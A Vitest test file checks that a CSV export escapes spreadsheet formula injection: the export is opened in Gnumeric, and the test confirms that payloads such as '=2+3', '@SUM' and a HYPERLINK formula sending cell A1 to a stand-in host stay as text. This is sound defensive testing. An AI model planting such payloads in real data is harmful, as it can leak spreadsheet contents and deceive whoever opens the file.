import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../src/lib/csv.ts';

// The exported CSV read back by a real spreadsheet engine: Gnumeric's ssconvert (Debian `gnumeric`, installed by
// scripts/ensure-system-deps.sh) evaluates formulas when it imports a CSV, as Excel and LibreOffice do.
const dir = mkdtempSync(path.join(tmpdir(), 'csv-spreadsheet-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** The cells a spreadsheet shows after opening `csv`, as text (a formula shows its result). */
function openInSpreadsheet(csv: string): string[][] {
  const input = path.join(dir, 'export.csv');
  const output = path.join(dir, 'values.csv');
  writeFileSync(input, csv);
  execFileSync('ssconvert', ['--import-encoding=UTF-8', '-T', 'Gnumeric_stf:stf_csv', input, output], {
    stdio: 'ignore',
  });
  return Papa.parse<string[]>(readFileSync(output, 'utf8'), { skipEmptyLines: true }).data;
}

/** What attackers put into names, addresses and comments that end up in the examiner's CSV. */
const ATTACKS = [
  '=2+3',
  '=2+3+LEN("a\u2028")',
  '=HYPERLINK("http://example.invalid/?"&A1,"Открыть")\u2029',
  '=1+1\nвторая строка',
  '+2+3',
  '-2+3',
  '@SUM(1,2)',
  '  =2+3',
  '\u2028=2+3',
  '\u00a0=2+3',
  '\t=2+3',
  '\r=2+3',
];

describe('the CSV export opened in a spreadsheet', () => {
  it('shows every cell as the text it was, evaluating none as a formula', () => {
    const header = ['№', 'Значение'];
    const rows = ATTACKS.map((value, index) => [String(index + 1), value]);
    const cells = openInSpreadsheet(toCsv(header, rows));
    expect(cells[0]).toEqual(header);
    const shown = cells.slice(1).map((row) => row[1]);
    // The engine keeps the text after the apostrophe that marks it as text (it may drop the marker itself).
    expect(shown.map((value, index) => [ATTACKS[index], value?.replace(/^'/, '')])).toEqual(
      ATTACKS.map((value) => [value, value]),
    );
  });

  it('keeps a value with a comma in its column, though the engine guesses the separator', () => {
    const header = ['№', 'Адрес', 'Решение'];
    const rows = [
      ['4', 'ул. Гагарина, 27', 'Согласовано'],
      ['5', 'наб. Речная, 8', 'Отказано'],
    ];
    expect(openInSpreadsheet(toCsv(header, rows))).toEqual([header, ...rows]);
  });

  it('evaluates the same file with the apostrophes taken out: the engine really runs these formulas', () => {
    const rows = ATTACKS.map((value, index) => [String(index + 1), value]);
    const defused = toCsv(['№', 'Значение'], rows);
    const cells = openInSpreadsheet(defused.replaceAll(`"'`, '"'));
    expect(cells[1]).toEqual(['1', '5']);
    expect(cells[2]).toEqual(['2', '7']);
  });
});
